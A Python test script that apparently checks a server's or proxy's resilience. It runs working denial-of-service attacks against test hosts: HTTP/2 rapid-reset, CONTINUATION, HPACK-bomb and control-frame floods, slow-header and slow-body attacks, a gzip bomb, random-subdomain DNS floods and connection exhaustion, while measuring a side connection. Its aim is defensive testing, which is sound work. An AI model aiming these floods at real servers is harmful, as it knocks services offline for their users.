"""Attackers on HTTP by hand: `python3 floods.py NAME`, while another connection asks for something again and again.

Each says what it did, and at its end `beside N requests, M failed` about that other connection.
"""

from client import *
import select
import threading
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags=0, stream=0, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value):
    value = value.encode() if isinstance(value, str) else value
    if len(value) < 127:
        return bytes([len(value)]) + value
    head, rest = b"\x7f", len(value) - 127
    while rest >= 128:
        head, rest = head + bytes([rest % 128 + 128]), rest // 128
    return head + bytes([rest]) + value


def field(name, value, indexed=False):
    return (b"\x40" if indexed else b"\0") + text(name) + text(value)


def get(path, host="good.test", scheme="https"):
    return b"\x82" + (b"\x87" if scheme == "https" else b"\x86") + b"\x04" + text(path) + b"\x01" + text(host)


class Two:
    """A connection of HTTP/2 whose answers are read as they come, so that nothing is held up."""

    def __init__(self, settings=b"", reads=True):
        self.stream = tls("good.test", alpn=("h2",))
        self.stream.setblocking(False)
        self.lock, self.sent, self.frames, self.closed, self.reason = threading.Lock(), 0, [], threading.Event(), ""
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
        if reads:
            threading.Thread(target=self.read, daemon=True).start()

    def patiently(self, act):
        """What two threads may do with one TLS connection: one at a time, and neither waits while it has it."""
        until = time.monotonic() + 20
        while time.monotonic() < until:
            with self.lock:
                try:
                    return act()
                except ssl.SSLWantReadError:
                    waits = [self.stream], []
                except ssl.SSLWantWriteError:
                    waits = [], [self.stream]
            select.select(*waits, [], 0.2)
        raise OSError("timed out")

    def send(self, piece):
        try:
            while piece:
                piece = piece[self.patiently(lambda: self.stream.send(piece)) :]
            self.sent += 1
            return not self.closed.is_set()
        except OSError as error:
            self.reason = self.reason or str(error)
            self.closed.set()
            return False

    def read(self):
        have = b""
        try:
            while True:
                part = self.patiently(lambda: self.stream.recv(65536))
                if not part:
                    break
                have += part
                while len(have) >= 9 and len(have) >= 9 + int.from_bytes(have[:3], "big"):
                    length = int.from_bytes(have[:3], "big")
                    kind, flags, stream, payload = have[3], have[4], int.from_bytes(have[5:9], "big"), have[9 : 9 + length]
                    have = have[9 + length :]
                    self.frames.append((kind, flags, stream, payload if kind in (HEADERS, GOAWAY, RST_STREAM) else b""))
                    if kind == GOAWAY:
                        self.reason = "goaway %d %s" % (int.from_bytes(payload[4:8], "big"), payload[8:].decode("latin-1"))
        except OSError as error:
            self.reason = self.reason or str(error)
        self.closed.set()

    def flood(self, pieces, wait=10):
        """Sends until it is stopped; says whether it was."""
        for piece in pieces:
            if not self.send(piece):
                break
        ended = self.closed.wait(wait)
        print("sent", self.sent, "ended" if ended else "open", self.reason)

    def ended_streams(self):
        return sum(1 for kind, flags, _, _ in self.frames if kind in (DATA, HEADERS) and flags & END_STREAM)


class Beside:
    """Good traffic on a connection of its own."""

    def __enter__(self):
        self.good, self.failed, self.over = 0, 0, False
        self.slowest = 0
        self.stream = tls("good.test")
        self.once()
        self.thread = threading.Thread(target=self.go)
        self.thread.start()
        return self

    def once(self):
        begun = time.monotonic()
        self.stream.sendall(b"GET /bytes/3 HTTP/1.1\r\nhost: good.test\r\n\r\n")
        answer = b""
        while not answer.endswith(b"...\r\n0\r\n\r\n"):
            part = self.stream.recv(65536)
            if not part:
                raise OSError("it ended")
            answer += part
        assert answer.startswith(b"HTTP/1.1 200"), answer
        self.slowest = max(self.slowest, time.monotonic() - begun)
        self.good += 1

    def go(self):
        while not self.over:
            try:
                self.once()
            except (OSError, AssertionError) as error:
                print("beside:", error)
                self.failed += 1
                return
            time.sleep(0.01)

    def __exit__(self, *_):
        """Goes on for a little after the attack."""
        wanted, until = self.good + 20, time.monotonic() + 20
        while self.good < wanted and not self.failed and time.monotonic() < until:
            time.sleep(0.01)
        self.over = True
        self.thread.join()
        print("beside %d requests, %d failed, the slowest %.3f s" % (self.good, self.failed, self.slowest))


def streams(begin=1):
    return range(begin, 1 << 30, 2)


def repeated(piece, times=200_000, at_once=100):
    return (piece * at_once for _ in range(times // at_once))


def rapid_reset():
    Two().flood(
        frame(HEADERS, END_STREAM | END_HEADERS, n, get("/rapid")) + frame(RST_STREAM, 0, n, b"\0\0\0\x08")
        for n, _ in zip(streams(), range(20_000))
    )


def made_you_reset():
    Two().flood(
        frame(HEADERS, END_HEADERS, n, get("/made")) + frame(WINDOW_UPDATE, 0, n, b"\0\0\0\0")
        for n, _ in zip(streams(), range(20_000))
    )


def continuation():
    two = Two()
    two.send(frame(HEADERS, END_STREAM, 1, get("/endless")))
    two.flood(frame(CONTINUATION, 0, 1, field("x-%d" % n, "a" * 16_000)) for n in range(20_000))


def empty_continuation():
    two = Two()
    two.send(frame(HEADERS, END_STREAM, 1, get("/endless")))
    two.flood(repeated(frame(CONTINUATION, 0, 1)))


def settings():
    Two().flood(repeated(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64")))


def pings():
    Two().flood(repeated(frame(PING, 0, 0, b"12345678")))


def pings_unread():
    Two(reads=False).flood(repeated(frame(PING, 0, 0, b"12345678"), 2_000_000), wait=0)


def priorities():
    Two().flood(repeated(frame(PRIORITY, 0, 1, b"\0\0\0\0\x10")))


def unknown():
    Two().flood(repeated(frame(0xBE, 0, 0, b"grease")))


def empty_data():
    two = Two()
    head = b"\x83\x87\x04" + text("/count") + b"\x01" + text("good.test")
    two.send(frame(HEADERS, END_HEADERS, 1, head))
    two.flood(repeated(frame(DATA, 0, 1)))


def bomb():
    """A field of 4,000 bytes goes into the table once, and is then named by one byte each time."""
    two = Two()
    big = field("x-bomb", "a" * 3_900, indexed=True)
    two.flood(
        frame(HEADERS, END_STREAM | END_HEADERS, n, get("/bomb") + big + b"\xbe" * 12_000)
        for n, _ in zip(streams(), range(2_000))
    )


def long_list():
    two = Two()
    two.send(frame(HEADERS, END_STREAM, 1, get("/long") + field("x-0", "a" * 16_000)))
    for n in range(1, 6):
        two.send(frame(CONTINUATION, END_HEADERS if n == 5 else 0, 1, field("x-%d" % n, "a" * 16_000)))
    two.closed.wait(2)
    refused = [kind for kind, _, stream, _ in two.frames if stream == 1 and kind in (HEADERS, RST_STREAM)]
    print("refused" if refused or two.closed.is_set() else "taken", two.reason)


def malformed():
    """Streams that are no requests, each on a connection of its own."""
    last = b"\x01" + text("good.test")
    bad = [
        get("/bad") + field("X-Upper", "a"),
        get("/bad") + field("connection", "close"),
        get("/bad") + field("transfer-encoding", "chunked"),
        get("/bad") + field("x", "a\r\nb: c"),
        get("/bad") + field("x y", "a"),
        field("x", "a") + get("/bad"),
        get("/bad") + b"\x04" + text("/other"),
        b"\x82\x87" + last,
        b"\x82\x87\x04" + text("") + last,
        field(":method", "CONNECT") + field(":protocol", "websocket") + b"\x87\x04" + text("/bad") + last,
        field(":method", "GET ") + b"\x87\x04" + text("/bad") + last,
        get("/bad") + field("content-length", "3"),
    ]
    passed = []
    for n, block in enumerate(bad):
        two = Two()
        two.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        until = time.monotonic() + 5
        answers = []
        while not answers and not two.closed.is_set() and time.monotonic() < until:
            time.sleep(0.02)
            answers = [payload for kind, _, stream, payload in two.frames if kind in (HEADERS, RST_STREAM) and stream == 1]
        # 200 and 404 are what a server says (RFC 7541, appendix A).
        if not two.closed.is_set() and (not answers or answers[0][:1] in (b"\x88", b"\x8d")):
            passed.append(n)
        two.stream.close()
    print("passed", passed)


def zero_window():
    """Asks for much on many streams, and gives no room for any of it."""
    connections = [Two(settings=b"\0\4\0\0\0\0") for _ in range(8)]
    for two in connections:
        for n, _ in zip(streams(), range(100)):
            two.send(frame(HEADERS, END_STREAM | END_HEADERS, n, get("/bytes/16777216")))
    time.sleep(3)
    heads = sum(1 for two in connections for kind, _, _, _ in two.frames if kind == HEADERS)
    print("many heads" if heads >= 50 else "few heads", heads)


def slow_heads():
    slow = [tls("good.test") for _ in range(50)]
    begun = time.monotonic()
    for n in range(34):
        for stream in slow:
            try:
                stream.sendall(b"GET /slow HTTP/1.1\r\nhost: good.test\r\nx: "[n : n + 1])
            except OSError:
                pass
        time.sleep(1)
    ended = [all_of(stream) for stream in slow]
    assert all(answer.startswith(b"HTTP/1.1 408") for answer in ended), ended[:2]
    print("ended after %.0f s" % (time.monotonic() - begun))


def slow_bodies():
    slow = [tls("good.test") for _ in range(20)]
    for stream in slow:
        stream.sendall(b"POST /count HTTP/1.1\r\nhost: good.test\r\ncontent-length: 100000\r\n\r\n")
    for _ in range(64):
        for stream in slow:
            try:
                stream.sendall(b"a")
            except OSError:
                pass
        time.sleep(1)
    ended = [all_of(stream) for stream in slow]
    assert all(answer.startswith(b"HTTP/1.1 408") for answer in ended), ended[:2]
    print("ended")


def endless_trailers():
    stream = tls("good.test")
    stream.sendall(b"POST /count HTTP/1.1\r\nhost: good.test\r\ntransfer-encoding: chunked\r\n\r\n1\r\na\r\n0\r\n")
    sent = 0
    try:
        for n in range(1_000_000):
            stream.sendall(b"x-%d: y\r\n" % n)
            sent += 1
    except OSError:
        pass
    print("sent", sent, all_of(stream)[:12])


def endless_extensions():
    stream = tls("good.test")
    stream.sendall(b"POST /count HTTP/1.1\r\nhost: good.test\r\ntransfer-encoding: chunked\r\n\r\n1;")
    sent = 0
    try:
        for _ in range(100_000):
            stream.sendall(b"a" * 1_000)
            sent += 1
    except OSError:
        pass
    print("sent", sent, all_of(stream)[:12])


def compressed():
    import zlib

    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    zeros = b"\0" * (1 << 20)
    body = b"".join(packer.compress(zeros) for _ in range(512)) + packer.flush()
    stream = tls("good.test")
    stream.sendall(
        b"POST /count HTTP/1.1\r\nhost: good.test\r\nconnection: close\r\ncontent-encoding: gzip\r\n"
        b"content-length: %d\r\n\r\n" % len(body)
    )
    try:
        stream.sendall(body)
    except OSError:
        pass
    print("answer", all_of(stream)[:12])


def expanding():
    stream = tls("attach.good.test")
    stream.settimeout(60)
    stream.sendall(head("GET", "/bomb", "attach.good.test").encode())
    print("answer", len(all_of(stream, 1 << 32)))


def names():
    """Names at random, each as soon as the one before is answered, and now and then one that is granted."""
    import random
    import struct

    def ask():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(10)
        s.connect(("198.18.0.2", 53))
        for n in range(2_000):
            good = n % 100 == 0
            name = b"\4good\4test\0" if good else b"\x20%032x\4evil\4test\0" % random.getrandbits(128)
            s.send(struct.pack("!6H", n, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1))
            answer = s.recv(512)
            assert (answer[3] & 15 == 0) == good, (name, answer)
            asked.append(n)

    asked = []
    threads = [threading.Thread(target=ask) for _ in range(8)]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    print("asked", len(asked))


def connections():
    import resource

    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    kept = []
    for _ in range(3_000):
        try:
            kept.append(dial("good.test", 443))
        except OSError:
            pass
    reset = 0
    for stream in kept:
        stream.settimeout(0.001)
        try:
            reset += stream.recv(1) == b""
        except TimeoutError:
            pass
        except OSError:
            reset += 1
    print("kept", len(kept), "reset", reset)


def churn():
    for _ in range(3_000):
        try:
            dial("good.test", 443).close()
        except OSError:
            time.sleep(0.001)
    print("churned")


def hostile(count=1, two=False, method="GET", body=b""):
    """Asks the upstream that misbehaves, and says how each answer ends."""
    for n in range(count):
        if two:
            import subprocess

            done = subprocess.run(
                ["curl", "-sS", "-m", "100", "--http2-prior-knowledge", "-w", " %{http_code}", "-X", method]
                + (["--data-binary", "@-"] if body else [])
                + ["http://hostile.test/"],
                input=body,
                capture_output=True,
            )
            print("answer", done.stdout[-100:], done.stderr[-200:])
            continue
        stream = dial("hostile.test", 80)
        stream.settimeout(100)
        stream.sendall(head(method, "/", "hostile.test").encode() + body)
        print("answer", all_of(stream)[:1000])


def hostile_one():
    hostile()


def hostile_two():
    hostile(two=True)


def hostile_upload():
    hostile(two=True, method="POST", body=b"u" * 4_000_000)


def legal():
    """Much of everything that the attacks abuse, within reason."""
    two = Two()
    for round_of, begin in enumerate(range(1, 4_001, 200)):
        for n in range(begin, begin + 200, 2):
            two.send(frame(HEADERS, END_STREAM | END_HEADERS, n, get("/bytes/10") + field("x-n", "a" * 100)))
        # Some are called off, some pings, settings and priorities stand between them, frames that nobody knows too.
        two.send(frame(RST_STREAM, 0, begin + 198, b"\0\0\0\x08") + frame(PING, 0, 0, b"12345678") * 20)
        two.send(frame(SETTINGS, 0, 0, b"\0\3\0\0\0\x64") + frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") + frame(0xBE, 0, 0, b"x"))
        until = time.monotonic() + 10
        while two.ended_streams() < 99 * (round_of + 1) and time.monotonic() < until and not two.closed.is_set():
            time.sleep(0.005)
    two.send(frame(HEADERS, END_STREAM, 4_001, get("/bytes/1") + field("x-0", "a" * 15_000)))
    two.send(frame(CONTINUATION, 0, 4_001, field("x-1", "a" * 15_000)))
    two.send(frame(CONTINUATION, END_HEADERS, 4_001, field("x-2", "a" * 15_000)))
    head = b"\x83\x87\x04" + text("/count") + b"\x01" + text("good.test")
    two.send(frame(HEADERS, END_HEADERS, 4_003, head) + frame(DATA, 0, 4_003) * 10)
    two.send(frame(DATA, 0, 4_003, b"a" * 10_000) + frame(DATA, END_STREAM, 4_003))
    time.sleep(2)
    print("streams", two.ended_streams() >= 20 * 99 + 2, two.ended_streams(), "closed" if two.closed.is_set() else "open")
    s = tls("good.test")
    s.sendall(b"POST /count HTTP/1.1\r\nhost: good.test\r\nconnection: close\r\ntransfer-encoding: chunked\r\n\r\n")
    for _ in range(50):
        s.sendall(b"1;a=b\r\n")
        time.sleep(0.02)
        s.sendall(b"a\r\n")
    s.sendall(b"0\r\n" + b"x-a: b\r\n" * 50 + b"\r\n")
    print("count", all_of(s).decode("latin-1").strip().splitlines()[-3:])


if __name__ == "__main__":
    with Beside():
        globals()[sys.argv[1]]()
